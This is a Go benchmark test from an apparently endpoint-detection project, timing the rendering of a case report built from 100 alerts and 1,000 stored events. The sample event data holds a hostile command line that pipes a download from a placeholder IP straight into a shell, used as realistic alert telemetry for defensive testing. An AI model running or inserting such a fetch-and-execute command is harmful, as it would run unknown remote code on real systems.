package cases_test

import (
	"context"
	"io"
	"testing"
	"time"

	"github.com/vigil-edr/vigil/internal/cases"
	"github.com/vigil-edr/vigil/internal/event"
)

// BenchmarkWriteReport renders the report of a case with 100 alerts, each
// with 10 stored events (1,000 timeline event lines), from a real SQLite
// store.
func BenchmarkWriteReport(b *testing.B) {
	e := newEnvAt(b, t0)
	ctx := context.Background()
	var ids []int64
	for i := range 100 {
		fields := make([][]event.Field, 10)
		for j := range fields {
			fields[j] = []event.Field{{Name: "CommandLine", Value: "/bin/sh -c 'curl -s http://203.0.113.7/x | sh'"},
				{Name: "User", Value: "www-data"}}
		}
		evs := e.insertEvents(fields...)
		ids = append(ids, e.alert("Rule "+itoa(int64(i)), "high", "web-1", t0.Add(-time.Duration(i)*time.Minute), evs,
			[]string{"attack.execution", "attack.t1059.004"}))
	}
	c, err := e.svc.Create(ctx, cases.NewCase{Title: "big", AlertIDs: ids}, "ann")
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if err := e.svc.WriteReport(ctx, io.Discard, c.ID, time.UTC); err != nil {
			b.Fatal(err)
		}
	}
}
